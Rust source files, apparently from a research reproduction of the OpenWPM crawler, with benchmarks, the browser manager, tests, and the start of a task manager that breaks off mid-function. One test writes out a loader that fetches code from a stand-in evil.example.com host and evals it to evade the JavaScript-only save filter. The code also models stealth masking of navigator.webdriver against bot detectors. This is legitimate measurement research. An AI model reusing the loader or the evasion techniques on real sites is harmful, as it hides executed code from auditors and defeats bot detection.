                FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
                url.clone(),
                None,
            ))
        })
    });

    c.bench_function("browser/template_capture", |b| {
        b.iter(|| {
            let mut page = Page::new(
                FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
                Url::parse("https://bench.test/").unwrap(),
                None,
            );
            black_box(browser::capture_template(&mut page))
        })
    });

    c.bench_function("browser/detector_script_execution", |b| {
        let src = detect::corpus::first_party_detector("https://bench.test/v");
        b.iter(|| {
            let mut page = Page::new(
                FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
                Url::parse("https://bench.test/").unwrap(),
                None,
            );
            page.run_script(&src, "bench.js").unwrap();
            black_box(page.traffic().len())
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench_engine
}
criterion_main!(benches);
