//! Engine-level benchmarks: interpreter throughput, realm construction,
//! template capture. Quantifies the "tree-walking interpreter vs bytecode"
//! design decision from DESIGN.md.

#![deny(deprecated)]

use std::hint::black_box;

use bench::timeit;
use browser::{FingerprintProfile, Os, Page, RunMode};
use jsengine::Interp;
use netsim::Url;

fn main() {
    timeit("interp/arith_loop_10k", 20, || {
        let mut it = Interp::new();
        let v = it
            .eval_script(
                "var s = 0; for (var i = 0; i < 10000; i++) { s += i % 7; } s",
                "bench",
            )
            .unwrap();
        black_box(v);
    });

    timeit("interp/realm_creation", 50, || {
        black_box(Interp::new());
    });

    let src =
        detect::corpus::selenium_detector(detect::Technique::Plain, "https://bd.test/v");
    timeit("interp/parse_detector_script", 50, || {
        black_box(jsengine::parser::parse(&src, "bench")).unwrap();
    });

    let url = Url::parse("https://bench.test/").unwrap();
    timeit("browser/page_creation", 50, || {
        black_box(Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
            url.clone(),
            None,
        ));
    });

    timeit("browser/template_capture", 20, || {
        let mut page = Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
            Url::parse("https://bench.test/").unwrap(),
            None,
        );
        black_box(browser::capture_template(&mut page));
    });

    let detector = detect::corpus::first_party_detector("https://bench.test/v");
    timeit("browser/detector_script_execution", 20, || {
        let mut page = Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
            Url::parse("https://bench.test/").unwrap(),
            None,
        );
        page.run_script((detector.as_str(), "bench.js")).unwrap();
        black_box(page.traffic().len());
    });

    bench::bench_footer("engine");
}
