//! Ablation benchmarks for DESIGN.md's design decisions:
//!
//! * script-wrapper hooks (vanilla) vs native-export hooks (stealth) —
//!   runtime overhead of each instrumentation flavour;
//! * honey properties on vs off — cost of the iterator filter;
//! * instrumented vs bare page — total instrumentation tax.

#![deny(deprecated)]

use std::hint::black_box;

use bench::timeit;
use openwpm::{Browser, BrowserConfig, SiteResponse, VisitSpec};

fn workload_spec() -> VisitSpec {
    VisitSpec {
        url: "https://bench.test/".into(),
        dwell_override_s: Some(1),
        scripts: vec![openwpm::PageScript {
            url: "https://bench.test/work.js".into(),
            source: r#"
                var sink = 0;
                for (var i = 0; i < 200; i++) {
                    sink += navigator.userAgent.length;
                    sink += screen.width + screen.availTop;
                    var el = document.createElement('div');
                    document.body.appendChild(el);
                }
            "#
            .into(),
            content_type: "text/javascript".into(),
        }],
        ..Default::default()
    }
}

fn visit_with(config: BrowserConfig) -> usize {
    let mut b = Browser::new(config);
    let _ = b.visit(&workload_spec(), |_| SiteResponse::default());
    b.take_store().js_calls.len()
}

fn main() {
    timeit("ablation/instrument_off", 20, || {
        black_box(visit_with(BrowserConfig::bare(42)));
    });
    timeit("ablation/instrument_vanilla", 20, || {
        black_box(visit_with(BrowserConfig::vanilla(42)));
    });
    timeit("ablation/instrument_stealth", 20, || {
        black_box(visit_with(BrowserConfig::stealth(42)));
    });
    timeit("ablation/scanner_with_honey", 20, || {
        black_box(visit_with(BrowserConfig::scanner(42)));
    });

    bench::bench_footer("ablation");
}
