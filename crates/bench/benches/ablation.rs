//! Ablation benchmarks for DESIGN.md's design decisions:
//!
//! * script-wrapper hooks (vanilla) vs native-export hooks (stealth) —
//!   runtime overhead of each instrumentation flavour;
//! * honey properties on vs off — cost of the iterator filter;
//! * instrumented vs bare page — total instrumentation tax.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use std::hint::black_box;

use openwpm::{Browser, BrowserConfig, SiteResponse, VisitSpec};

fn workload_spec() -> VisitSpec {
    VisitSpec {
        url: "https://bench.test/".into(),
        dwell_override_s: Some(1),
        scripts: vec![openwpm::PageScript {
            url: "https://bench.test/work.js".into(),
            source: r#"
                var sink = 0;
                for (var i = 0; i < 200; i++) {
                    sink += navigator.userAgent.length;
                    sink += screen.width + screen.availTop;
                    var el = document.createElement('div');
                    document.body.appendChild(el);
                }
            "#
            .into(),
            content_type: "text/javascript".into(),
        }],
        ..Default::default()
    }
}

fn visit_with(config: BrowserConfig) -> usize {
    let mut b = Browser::new(config);
    b.visit(&workload_spec(), |_| SiteResponse::default());
    b.take_store().js_calls.len()
}

fn bench_ablation(c: &mut Criterion) {
    c.bench_function("ablation/instrument_off", |b| {
        b.iter_batched(
            || BrowserConfig::bare(42),
            |cfg| black_box(visit_with(cfg)),
            BatchSize::SmallInput,
        )
    });
    c.bench_function("ablation/instrument_vanilla", |b| {
        b.iter_batched(
            || BrowserConfig::vanilla(42),
            |cfg| black_box(visit_with(cfg)),
            BatchSize::SmallInput,
        )
    });
    c.bench_function("ablation/instrument_stealth", |b| {
        b.iter_batched(
            || BrowserConfig::stealth(42),
            |cfg| black_box(visit_with(cfg)),
            BatchSize::SmallInput,
        )
    });
    c.bench_function("ablation/scanner_with_honey", |b| {
        b.iter_batched(
            || BrowserConfig::scanner(42),
            |cfg| black_box(visit_with(cfg)),
            BatchSize::SmallInput,
        )
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench_ablation
}
criterion_main!(benches);
