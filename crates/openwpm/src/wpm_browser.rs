//! The browser manager: drives one emulated browser through page visits,
//! deploying the configured instruments (Fig. 1's "automation +
//! instrumentation" layers).

use std::cell::RefCell;
use std::rc::Rc;

use browser::{CspPolicy, FingerprintProfile, Page, PageTemplate};
use netsim::{Cookie, HttpRequest, HttpResponse, ResourceType, Url};

use crate::config::{BrowserConfig, JsInstrumentKind};
use crate::instrument::{honey, http, stealth, vanilla, watch, StoreHandle};
use crate::records::RecordStore;
use crate::supervisor::FailureReason;

/// One script delivered with a page.
#[derive(Clone, Debug)]
pub struct PageScript {
    /// Script URL; the host decides first/third-party attribution.
    pub url: String,
    /// Shared body: sites materialised from the same generator parameters
    /// (and repeat visits of one site) alias a single allocation, which the
    /// compile cache then parses once for all of them.
    pub source: std::sync::Arc<str>,
    /// Content type it was served with (silent-delivery payloads lie here).
    pub content_type: String,
}

impl PageScript {
    /// FNV-64 of the body — the script's identity in the corpus statistics,
    /// the compile cache, and the crawl archive's blob store.
    pub fn content_hash(&self) -> u64 {
        obs::fnv1a(self.source.as_bytes())
    }
}

/// Everything a site serves for one page visit.
#[derive(Clone, Debug, Default)]
pub struct VisitSpec {
    pub url: String,
    pub csp: Option<CspPolicy>,
    /// Scripts executed in document order.
    pub scripts: Vec<PageScript>,
    /// Resources reachable via `fetch`/dynamic `<script src>`:
    /// `(url, content_type, body)`.
    pub server_resources: Vec<(String, String, String)>,
    /// Static subresources of the page (images, css, fonts, ads…).
    pub static_requests: Vec<(String, ResourceType)>,
    /// Seconds to idle after load; defaults to the config's dwell time.
    pub dwell_override_s: Option<u64>,
}

/// What the site serves *after* observing the client (the adaptive /
/// cloaking phase): computed by the caller from the visit's dynamic
/// traffic (e.g. detector verdict beacons).
#[derive(Clone, Debug, Default)]
pub struct SiteResponse {
    pub cookies: Vec<Cookie>,
    pub extra_requests: Vec<(String, ResourceType)>,
}

/// Outcome statistics of one visit.
#[derive(Clone, Debug)]
pub struct VisitStats {
    /// Whether the JS instrument ended up installed (false when CSP blocked
    /// the vanilla injection).
    pub instrumented: bool,
    /// Page-script errors swallowed during the visit.
    pub script_errors: usize,
    /// Names of installed honey properties (empty unless configured).
    pub honey_names: Vec<String>,
    /// Browser crashes encountered (visit was retried after each).
    pub crashes: u32,
}

/// An OpenWPM-managed browser. Owns the record store its instruments write
/// into; the store persists across visits (one store per crawl, like the
/// real framework's per-crawl SQLite database).
pub struct Browser {
    pub config: BrowserConfig,
    store: StoreHandle,
    /// Browser instance number on the host (affects Ubuntu window offsets).
    pub instance: u32,
    visits: u64,
    /// Logical key of the item being visited (e.g. site rank), set by the
    /// crawl driver. When present, per-visit event-id seeds derive from
    /// `(config seed, key, page counter)` instead of this browser's visit
    /// history, so record content is independent of worker scheduling.
    visit_key: Option<u64>,
    /// Pages opened under the current visit key.
    key_pages: u64,
    /// Pre-installed page realm, cloned per visit instead of rebuilt.
    /// Part of the shared compiled-artifact layer: only consulted while
    /// the process-wide compile cache is enabled, and rebuilt whenever
    /// [`Browser::instance`] changes (the profile depends on it).
    template: Option<PageTemplate>,
    template_instance: u32,
}

impl Browser {
    pub fn new(config: BrowserConfig) -> Browser {
        Browser {
            config,
            store: Rc::new(RefCell::new(RecordStore::new())),
            instance: 0,
            visits: 0,
            visit_key: None,
            key_pages: 0,
            template: None,
            template_instance: 0,
        }
    }

    /// Key subsequent visits by `key` (resetting the per-key page counter).
    /// Crawl drivers call this with the item's stable identity (site rank)
    /// before each visit; seeds then depend only on `(seed, key, page)`.
    pub fn set_visit_key(&mut self, key: u64) {
        self.visit_key = Some(key);
        self.key_pages = 0;
    }

    pub fn with_instance(mut self, instance: u32) -> Browser {
        self.instance = instance;
        self
    }

    /// The client profile this browser presents, including stealth geometry
    /// overrides.
    pub fn profile(&self) -> FingerprintProfile {
        let mut p =
            FingerprintProfile::openwpm(self.config.os, self.config.mode).with_instance(self.instance);
        if self.config.js_instrument == JsInstrumentKind::Stealth {
            if let Some(g) = self.config.stealth.window_geometry {
                p.geometry = g;
            }
        }
        p
    }

    /// Shared handle to the crawl's record store.
    pub fn store(&self) -> StoreHandle {
        self.store.clone()
    }

    /// Move the accumulated records out (end of crawl).
    pub fn take_store(&mut self) -> RecordStore {
        std::mem::take(&mut *self.store.borrow_mut())
    }

    /// Build the page for a visit with instrumentation installed — exposed
    /// separately so experiments can interleave custom page interactions.
    ///
    /// An unparseable visit URL is a typed [`FailureReason::BadUrl`]
    /// failure (recorded by the supervisor), not a worker crash.
    pub fn open_page(&mut self, spec: &VisitSpec) -> Result<(Page, VisitStats), FailureReason> {
        self.visits += 1;
        let url = Url::parse(&spec.url).ok_or(FailureReason::BadUrl)?;
        let mut page = if jsengine::cache_enabled() {
            // Shared-artifact path: clone the per-instance realm template.
            if self.template.is_none() || self.template_instance != self.instance {
                self.template = Some(PageTemplate::new(self.profile()));
                self.template_instance = self.instance;
            }
            let tpl = self.template.as_ref().expect("template built above");
            tpl.instantiate(url.clone(), spec.csp.clone())
        } else {
            // Ablation path (`--no-compile-cache`): rebuild the realm from
            // scratch for every page, like the pre-cache pipeline did.
            Page::new(self.profile(), url.clone(), spec.csp.clone())
        };
        for (rurl, ctype, body) in &spec.server_resources {
            page.add_server_resource(rurl, ctype, body);
        }
        let page_url = url.to_string();
        // Per-visit event-id seed, like OpenWPM's per-load random id.
        // Keyed visits derive it from the item's stable identity so the
        // same site produces the same ids under any worker count.
        let visit_seed = match self.visit_key {
            Some(key) => {
                self.key_pages += 1;
                let mut x = self.config.seed
                    ^ key.wrapping_mul(0x9E37_79B9_7F4A_7C15)
                    ^ self.key_pages.wrapping_mul(0xD6E8_FEB8_6659_FD93);
                x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
                x ^ (x >> 31)
            }
            None => self.config.seed ^ self.visits.wrapping_mul(0x9E37_79B9),
        };
        if obs::enabled() {
            page.enable_profiling();
        }
        let instrumented = match self.config.js_instrument {
            JsInstrumentKind::Off => true,
            JsInstrumentKind::Vanilla => {
                vanilla::install(&mut page, visit_seed, self.store.clone(), page_url.clone())
            }
            JsInstrumentKind::Stealth => {
                stealth::install(
                    &mut page,
                    &self.config.stealth,
                    self.store.clone(),
                    page_url.clone(),
                );
                true
            }
        };
        if self.config.watch_openwpm_props {
            watch::install(&mut page, self.store.clone(), page_url.clone());
        }
        let honey_names = if self.config.honey_properties > 0
            && self.config.js_instrument != JsInstrumentKind::Off
        {
            honey::install(
                &mut page,
                self.store.clone(),
                visit_seed,
                self.config.honey_properties,
            )
        } else {
            Vec::new()
        };
        if !instrumented {
            obs::add("instrument.hook_install_failures", 1);
            obs::emit(obs::Event::new(0, "hook_install_failed").attr("page", page_url));
        }
        Ok((page, VisitStats { instrumented, script_errors: 0, honey_names, crashes: 0 }))
    }

    /// Visit a page with crash simulation and restart: a crashed visit is
    /// retried once on a fresh browser state, like OpenWPM's BrowserManager
    /// recovery loop.
    pub fn visit(
        &mut self,
        spec: &VisitSpec,
        responder: impl FnOnce(&[HttpRequest]) -> SiteResponse,
    ) -> Result<VisitStats, FailureReason> {
        if self.config.crash_per_mille > 0 {
            // Deterministic crash draw per (seed, visit counter).
            let draw = {
                let mut x = self.config.seed ^ (self.visits.wrapping_mul(0x2545_F491_4F6C_DD1D));
                x ^= x >> 33;
                x = x.wrapping_mul(0xFF51_AFD7_ED55_8CCD);
                (x % 1000) as u32
            };
            if draw < self.config.crash_per_mille {
                // The crash loses the in-flight visit's page; the store
                // (crawl database) survives, and the visit is retried.
                self.visits += 1;
                let mut stats = self.visit_once(spec, responder)?;
                stats.crashes += 1;
                return Ok(stats);
            }
        }
        self.visit_once(spec, responder)
    }

    /// Visit a page: load static resources, run scripts, dwell, then let
    /// `responder` decide the site's adaptive response from the observed
    /// dynamic traffic (detector beacons etc.).
    pub fn visit_once(
        &mut self,
        spec: &VisitSpec,
        responder: impl FnOnce(&[HttpRequest]) -> SiteResponse,
    ) -> Result<VisitStats, FailureReason> {
        let (mut page, mut stats) = self.open_page(spec)?;
        let url = Url::parse(&spec.url).ok_or(FailureReason::BadUrl)?;
        let page_url = url.to_string();
        let store_before = if obs::enabled() {
            Some(StoreCounts::of(&self.store.borrow()))
        } else {
            None
        };

        // Static load: main frame plus declared subresources.
        let mut static_reqs = vec![HttpRequest {
            url: url.clone(),
            page: url.clone(),
            resource_type: ResourceType::MainFrame,
            method: "GET",
            time_ms: 0,
        }];
        for (rurl, rt) in &spec.static_requests {
            if let Some(u) = Url::parse(rurl) {
                static_reqs.push(HttpRequest {
                    url: u,
                    page: url.clone(),
                    resource_type: *rt,
                    method: "GET",
                    time_ms: 0,
                });
            }
        }
        // Script subresources are requests too, and their bodies flow
        // through the HTTP instrument's save filter.
        for script in &spec.scripts {
            if let Some(u) = Url::parse(&script.url) {
                static_reqs.push(HttpRequest {
                    url: u.clone(),
                    page: url.clone(),
                    resource_type: ResourceType::Script,
                    method: "GET",
                    time_ms: 0,
                });
                if let Some(mode) = self.config.http_instrument {
                    http::record_response(
                        &mut self.store.borrow_mut(),
                        &HttpResponse {
                            url: u,
                            status: 200,
                            content_type: script.content_type.clone(),
                            body: script.source.to_string(),
                        },
                        mode,
                        &page_url,
                    );
                }
            }
        }
        if self.config.http_instrument.is_some() {
            http::record_requests(&mut self.store.borrow_mut(), &static_reqs);
        }

        // Execute page scripts in document order, compiling through the
        // process-wide cache: provider scripts shared across hundreds of
        // sites (and every supervisor retry of this visit) parse once.
        // Execution time is attributed to the active backend's phase
        // (`jsengine.vm` vs `jsengine.interp`); under the VM the lazy
        // bytecode compile is warmed first so it lands in its own
        // `jsengine.compile_bc` phase rather than polluting run time.
        let engine = jsengine::default_engine();
        for script in &spec.scripts {
            let ran = jsengine::compile_cached(&script.source, &script.url)
                .map_err(|_| ())
                .and_then(|cs| {
                    let _ph = if engine == jsengine::Engine::Vm {
                        cs.chunk();
                        obs::prof::enter(&obs::prof::JS_VM)
                    } else {
                        obs::prof::enter(&obs::prof::JS_INTERP)
                    };
                    page.run_script(&cs).map_err(|_| ())
                });
            if ran.is_err() {
                stats.script_errors += 1;
            }
        }

        // Dwell: drains extension frame injections, setTimeout detectors…
        let dwell_s = spec.dwell_override_s.unwrap_or(self.config.dwell_seconds);
        page.advance(dwell_s * 500);
        if self.config.simulate_interaction {
            // HLISA-style interaction mid-dwell: hover, scroll, click.
            for kind in ["mouseover", "scroll", "click"] {
                page.simulate_interaction(kind);
            }
        }
        page.advance(dwell_s * 500);

        // Dynamic traffic (fetches, beacons, csp reports, dynamic scripts).
        let dynamic = page.traffic();
        if let Some(mode) = self.config.http_instrument {
            http::record_requests(&mut self.store.borrow_mut(), &dynamic);
            // Bodies of dynamically-fetched server resources.
            for req in &dynamic {
                for (rurl, ctype, body) in &spec.server_resources {
                    if req.url.to_string() == *rurl
                        || rurl.ends_with(&format!("{}{}", req.url.host, req.url.path))
                    {
                        http::record_response(
                            &mut self.store.borrow_mut(),
                            &HttpResponse {
                                url: req.url.clone(),
                                status: 200,
                                content_type: ctype.clone(),
                                body: body.clone(),
                            },
                            mode,
                            &page_url,
                        );
                    }
                }
            }
        }

        // Adaptive phase: the site reacts to what it observed.
        let response = responder(&dynamic);
        if self.config.http_instrument.is_some() {
            let extra: Vec<HttpRequest> = response
                .extra_requests
                .iter()
                .filter_map(|(rurl, rt)| {
                    Url::parse(rurl).map(|u| HttpRequest {
                        url: u,
                        page: url.clone(),
                        resource_type: *rt,
                        method: "GET",
                        time_ms: dwell_s * 1000,
                    })
                })
                .collect();
            http::record_requests(&mut self.store.borrow_mut(), &extra);
        }
        if self.config.cookie_instrument {
            self.store.borrow_mut().cookies.extend(response.cookies);
            // Cookies written via document.cookie are first-party session
            // cookies from the page's own scripts.
            let js_cookies = page.host.borrow().js_cookies.clone();
            for raw in js_cookies {
                if let Some((name, value)) = raw.split_once('=') {
                    self.store.borrow_mut().cookies.push(Cookie {
                        name: name.trim().to_owned(),
                        value: value.split(';').next().unwrap_or("").trim().to_owned(),
                        domain: url.host.clone(),
                        page_domain: url.host.clone(),
                        expires_in_s: None,
                    });
                }
            }
        }
        if let Some(before) = store_before {
            let after = StoreCounts::of(&self.store.borrow());
            after.report_delta(&before);
        }
        if let Some(profile) = page.take_profile() {
            // Builtin leaves hang under whichever backend phase ran the
            // scripts, so collapsed flamegraphs show identical
            // `builtin.<name>` frames in either mode.
            let parent = match jsengine::default_engine() {
                jsengine::Engine::Vm => "visit;jsengine.vm",
                jsengine::Engine::Tree => "visit;jsengine.interp",
            };
            obs::prof::fold_builtin_counts_under(parent, &profile.builtins);
            obs::observe("jsengine.ops_per_visit", profile.ops);
            obs::observe("jsengine.calls_per_visit", profile.calls);
            obs::observe("jsengine.max_call_depth", profile.max_depth as u64);
            obs::add("jsengine.evals", profile.evals);
            obs::emit(
                obs::Event::new(0, "js_profile")
                    .attr("ops", profile.ops)
                    .attr("calls", profile.calls)
                    .attr("evals", profile.evals)
                    .attr("max_depth", profile.max_depth),
            );
        }
        Ok(stats)
    }
}

/// Record-store section lengths, used to compute the per-visit deltas the
/// telemetry layer reports (one batched event per visit, not one per
/// record — a full scan commits millions of records).
struct StoreCounts {
    js_calls: usize,
    http_requests: usize,
    http_responses: usize,
    saved_scripts: usize,
    cookies: usize,
    malformed: u64,
}

impl StoreCounts {
    fn of(store: &RecordStore) -> StoreCounts {
        StoreCounts {
            js_calls: store.js_calls.len(),
            http_requests: store.http_requests.len(),
            http_responses: store.http_responses.len(),
            saved_scripts: store.saved_scripts.len(),
            cookies: store.cookies.len(),
            malformed: store.malformed_events,
        }
    }

    fn report_delta(&self, before: &StoreCounts) {
        let js = (self.js_calls - before.js_calls) as u64;
        let req = (self.http_requests - before.http_requests) as u64;
        let resp = (self.http_responses - before.http_responses) as u64;
        let scripts = (self.saved_scripts - before.saved_scripts) as u64;
        let cookies = (self.cookies - before.cookies) as u64;
        let malformed = self.malformed - before.malformed;
        obs::add("records.js_calls", js);
        obs::add("records.http_requests", req);
        obs::add("records.http_responses", resp);
        obs::add("records.saved_scripts", scripts);
        obs::add("records.cookies", cookies);
        obs::emit(
            obs::Event::new(0, "records")
                .attr("js_calls", js)
                .attr("http_requests", req)
                .attr("http_responses", resp)
                .attr("saved_scripts", scripts)
                .attr("cookies", cookies)
                .attr("malformed", malformed),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::HttpSaveMode;

    fn spec(url: &str) -> VisitSpec {
        VisitSpec { url: url.into(), dwell_override_s: Some(1), ..Default::default() }
    }

    #[test]
    fn visit_records_main_frame_and_scripts() {
        let mut b = Browser::new(BrowserConfig::vanilla(1));
        let mut s = spec("https://news.example.com/");
        s.scripts.push(PageScript {
            url: "https://news.example.com/app.js".into(),
            source: "var x = navigator.userAgent;".into(),
            content_type: "text/javascript".into(),
        });
                let _ = b.visit(&s, |_| SiteResponse::default());
        let store = b.take_store();
        assert!(store
            .http_requests
            .iter()
            .any(|r| r.resource_type == ResourceType::MainFrame));
        assert!(store.http_requests.iter().any(|r| r.resource_type == ResourceType::Script));
        assert_eq!(store.saved_scripts.len(), 1);
        assert_eq!(store.calls_to(".userAgent").count(), 1);
    }

    #[test]
    fn responder_sees_beacons_and_serves_cookies() {
        let mut b = Browser::new(BrowserConfig::vanilla(2));
        let mut s = spec("https://shop.example.com/");
        s.scripts.push(PageScript {
            url: "https://bd.example.net/detect.js".into(),
            source: "navigator.sendBeacon('https://bd.example.net/verdict?bot=1');".into(),
            content_type: "text/javascript".into(),
        });
                let _ = b.visit(&s, |traffic| {
            let bot = traffic
                .iter()
                .any(|r| r.resource_type == ResourceType::Beacon && r.url.query.contains("bot=1"));
            assert!(bot, "responder must see the verdict beacon");
            SiteResponse {
                cookies: vec![Cookie {
                    name: "throttled".into(),
                    value: "1".into(),
                    domain: "shop.example.com".into(),
                    page_domain: "shop.example.com".into(),
                    expires_in_s: None,
                }],
                extra_requests: vec![],
            }
        });
        assert_eq!(b.take_store().cookies.len(), 1);
    }

    #[test]
    fn stealth_browser_masks_webdriver_during_visit() {
        let mut b = Browser::new(BrowserConfig::stealth(3));
        let mut s = spec("https://site.example.com/");
        s.scripts.push(PageScript {
            url: "https://site.example.com/d.js".into(),
            source: "navigator.sendBeacon('https://site.example.com/v?wd=' + navigator.webdriver);"
                .into(),
            content_type: "text/javascript".into(),
        });
        let mut saw = None;
                let _ = b.visit(&s, |traffic| {
            saw = traffic
                .iter()
                .find(|r| r.resource_type == ResourceType::Beacon)
                .map(|r| r.url.query.clone());
            SiteResponse::default()
        });
        assert_eq!(saw.as_deref(), Some("wd=false"));
    }

    #[test]
    fn silent_delivery_bypasses_js_only_http_instrument_in_visit() {
        let mut b = Browser::new(BrowserConfig::vanilla(4));
        assert_eq!(b.config.http_instrument, Some(HttpSaveMode::JavascriptOnly));
        let mut s = spec("https://evil.example.com/");
        s.server_resources.push((
            "https://evil.example.com/cheat".into(),
            "text/plain".into(),
            "window.secretRan = true;".into(),
        ));
        s.scripts.push(PageScript {
            url: "https://evil.example.com/loader.js".into(),
            source: "fetch('https://evil.example.com/cheat').then(function (r) { return r.text(); }).then(function (code) { eval(code); });".into(),
            content_type: "text/javascript".into(),
        });
                let _ = b.visit(&s, |_| SiteResponse::default());
        let store = b.take_store();
        // The payload executed (loader is saved, payload request visible)…
        assert!(store
            .http_requests
            .iter()
            .any(|r| r.url.path == "/cheat" && r.resource_type == ResourceType::XmlHttpRequest));
        // …but its body was never saved as a script.
        assert!(
            !store.saved_scripts.iter().any(|s| s.url.contains("/cheat")),
            "silently delivered code must evade the JS-only filter"
        );
    }

    #[test]
    fn geometry_override_only_in_stealth() {
        let v = Browser::new(BrowserConfig::vanilla(5));
        assert_eq!(v.profile().geometry.screen_width, 2560);
        let s = Browser::new(BrowserConfig::stealth(5));
        assert_eq!(s.profile().geometry.screen_width, 1920);
    }

    fn crashy_config(seed: u64, per_mille: u32) -> BrowserConfig {
        let mut c = BrowserConfig::vanilla(seed);
        c.crash_per_mille = per_mille;
        c
    }

    fn instrumented_spec() -> VisitSpec {
        let mut s = spec("https://crashy.example.com/");
        s.scripts.push(PageScript {
            url: "https://crashy.example.com/app.js".into(),
            source: "var x = navigator.userAgent;".into(),
            content_type: "text/javascript".into(),
        });
        s
    }

    #[test]
    fn crashed_visit_is_retried_and_rerecords_page_data() {
        // crash_per_mille = 1000: the first draw always crashes, so every
        // visit exercises the retry path.
        let mut b = Browser::new(crashy_config(7, 1000));
        let stats =
            b.visit(&instrumented_spec(), |_| SiteResponse::default()).expect("URL parses");
        assert_eq!(stats.crashes, 1, "crash must be counted");
        let store = b.take_store();
        // The retried visit re-recorded everything the crashed one lost.
        assert!(store.http_requests.iter().any(|r| r.resource_type == ResourceType::MainFrame));
        assert_eq!(store.saved_scripts.len(), 1);
        assert_eq!(store.calls_to(".userAgent").count(), 1);
    }

    #[test]
    fn crash_free_visits_report_zero_crashes() {
        let mut b = Browser::new(crashy_config(7, 0));
        let stats =
            b.visit(&instrumented_spec(), |_| SiteResponse::default()).expect("URL parses");
        assert_eq!(stats.crashes, 0);
    }

    #[test]
    fn crash_rate_is_approximately_honoured_over_many_visits() {
        let mut b = Browser::new(crashy_config(11, 200)); // 20%
        let mut crashes = 0u32;
        for _ in 0..300 {
            crashes += b
                .visit(&spec("https://crashy.example.com/"), |_| SiteResponse::default())
                .expect("URL parses")
                .crashes;
            b.take_store();
        }
        assert!((35..=85).contains(&crashes), "crashes = {crashes} of 300 at 20%");
    }

    #[test]
    fn crash_pattern_is_deterministic_per_seed() {
        let pattern = |seed: u64| -> Vec<u32> {
            let mut b = Browser::new(crashy_config(seed, 300));
            (0..100)
                .map(|_| {
                    let c = b
                        .visit(&spec("https://crashy.example.com/"), |_| {
                            SiteResponse::default()
                        })
                        .expect("URL parses")
                        .crashes;
                    b.take_store();
                    c
                })
                .collect()
        };
        assert_eq!(pattern(42), pattern(42), "same seed, same crashes");
        assert_ne!(pattern(42), pattern(43), "different seed, different crashes");
    }
}
