//! # openwpm — reproduction of the OpenWPM measurement framework
//!
//! Mirrors the architecture of Fig. 1 in the paper: a web client (the
//! `browser` crate's emulated Firefox), automation (the crawler in
//! [`wpm_browser`] / [`manager`]), measurement instruments
//! ([`instrument`]) and the framework glue (configuration, record store,
//! restart handling).
//!
//! Two JavaScript-instrument implementations coexist:
//!
//! * [`instrument::vanilla`] — the stock OpenWPM approach: a generated
//!   MiniJS script is injected into the page via the DOM and wraps APIs
//!   with page-context closures. Every weakness the paper reports is
//!   *observable or exploitable* here: `toString` leakage (Listing 1),
//!   `window.getInstrumentJS`, wrapper frames in stack traces, prototype
//!   pollution (Fig. 2), the event-dispatcher hijack (Listing 2), CSP
//!   blocking (Sec. 5.1.2) and racy frame injection (Listing 3).
//! * [`instrument::stealth`] — WPM_hide (Sec. 6): privileged native hooks
//!   with preserved `toString`, per-prototype instrumentation, clean DOM,
//!   clean stacks, secure messaging and synchronous frame protection.
//!
//! The HTTP instrument ([`instrument::http`]) supports full-body and
//! JavaScript-only saving (the latter evadable per Listing 4), and the
//! cookie instrument records served cookies host-side.
//!
//! Crawl reliability (the paper's central concern) is handled by two
//! layers on top of the task manager: [`fault`] injects deterministic,
//! seeded failures (crashes, hangs, navigation errors, tab crashes,
//! flaky HTTP) and [`supervisor`] survives them — watchdog timeouts,
//! retry with exponential backoff, browser restarts, typed failure
//! records and checkpoint/resume hooks.

pub mod config;
pub mod fault;
pub mod instrument;
pub mod manager;
pub mod records;
pub mod supervisor;
pub mod wpm_browser;

pub use config::{BrowserConfig, HttpSaveMode, JsInstrumentKind, StealthSettings};
pub use fault::{
    catch_crash, is_crash_panic, CrashInjector, CrashPlan, FaultInjector, FaultKind, FaultPlan,
    KillPoint, CRASH_SENTINEL,
};
pub use manager::{run_parallel, run_parallel_chunked};
pub use records::{
    CrawlHistoryRecord, CrawlStatus, JsCallRecord, JsOperation, RecordStore, SavedScript,
    StoreCapture,
};
pub use supervisor::{
    run_supervised, run_supervised_fallible, run_supervised_folding, CrawlOutcome, CrawlSummary,
    FailureReason, ItemMeta, RetryPolicy, SupervisorConfig, VisitOutcome,
};
pub use wpm_browser::{Browser, PageScript, SiteResponse, VisitSpec, VisitStats};
