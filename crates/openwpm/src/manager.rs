//! The task manager: parallel work distribution across browser workers.
//!
//! Real OpenWPM's TaskManager fans site visits out to browser processes,
//! monitors liveliness and restarts crashed browsers. Interpreters here are
//! `!Send` (single-threaded realms), so parallelism is per-worker: each
//! worker thread builds its own state (browsers) via `init` and consumes
//! work items from a shared queue. Results come back in input order.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// Run `items` through per-worker state machines on `workers` threads.
///
/// * `init(worker_index)` builds the per-thread state (e.g. a `Browser`);
/// * `step(&mut state, item_index, item)` performs one visit.
///
/// Returns the results ordered by item index. Panics in workers propagate.
pub fn run_parallel<W, R, S>(
    items: Vec<W>,
    workers: usize,
    init: impl Fn(usize) -> S + Sync,
    step: impl Fn(&mut S, usize, W) -> R + Sync,
) -> Vec<R>
where
    W: Send,
    R: Send,
{
    let workers = workers.max(1);
    let n = items.len();
    let mut slots: Vec<Option<R>> = Vec::with_capacity(n);
    slots.resize_with(n, || None);
    let results = Mutex::new(slots);
    let cursor = AtomicUsize::new(0);
    // Items are taken by index from a shared vector of Options.
    let mut boxed: Vec<Mutex<Option<W>>> = Vec::with_capacity(n);
    for item in items {
        boxed.push(Mutex::new(Some(item)));
    }
    std::thread::scope(|scope| {
        for w in 0..workers {
            let results = &results;
            let cursor = &cursor;
            let boxed = &boxed;
            let init = &init;
            let step = &step;
            scope.spawn(move || {
                let mut state = init(w);
                loop {
                    let i = cursor.fetch_add(1, Ordering::Relaxed);
                    if i >= n {
                        break;
                    }
